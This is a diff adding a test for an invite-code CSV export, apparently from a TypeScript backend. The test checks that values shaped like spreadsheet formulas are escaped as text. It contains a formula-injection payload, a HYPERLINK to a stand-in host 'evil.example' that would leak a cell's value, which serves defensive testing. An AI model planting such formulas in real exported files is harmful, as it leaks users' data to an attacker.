@@ -56,3 +56,28 @@ describe("GET /exports/invite-codes.csv", () => {
     expect(await app.db.prisma.auditLog.count({ where: { action: "invite_codes.export", subjectId: wave.id } })).toBe(0);
   });
 });
+
+describe("invite code CSV against spreadsheet formulas", () => {
+  const NOW = new Date("2026-11-20T10:00:00Z");
+  const app = useTestApp({ now: () => NOW });
+
+  it("writes a revoke reason that looks like a formula as text, and the file still reads back", async () => {
+    const admin = await createStaff(app.db, "admin");
+    const api = callerFor(app.db, admin, { now: () => NOW });
+    const wave = await api.inviteWave.create({ name: "Formulas", targetSize: 10, usesPerCode: 1 });
+    const batch = await api.inviteWave.issueBatch({ waveId: wave.id, count: 3 });
+    const codes = (await app.db.prisma.inviteCode.findMany({ where: { batchId: batch.id }, orderBy: { id: "asc" }, select: { code: true } })).map((c) => c.code);
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
+    await api.inviteWave.revoke({ type: "code", codes: [codes[0]!], reason: hyperlink });
+    await api.inviteWave.revoke({ type: "code", codes: [codes[1]!], reason: "@SUM(1+1)" });
+    const cookie = `vigil_session=${await sessionTokenFor(app.db, admin, NOW)}`;
+
+    const res = await fetch(`${app.base}${(await api.inviteWave.exportUrl({ waveId: wave.id })).url}`, { headers: { cookie } });
+    expect(res.status).toBe(200);
+    const lines = (await res.text()).trimEnd().split("\n").slice(1);
+    const lineOf = (code: string) => lines.find((l) => l.startsWith(code))!;
+    expect(lineOf(codes[0]!).endsWith(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")"`)).toBe(true);
+    expect(lineOf(codes[1]!).endsWith(",'@SUM(1+1)")).toBe(true);
+    expect(lineOf(codes[2]!)).toMatch(/,active,1,0,/);
+  });
+});
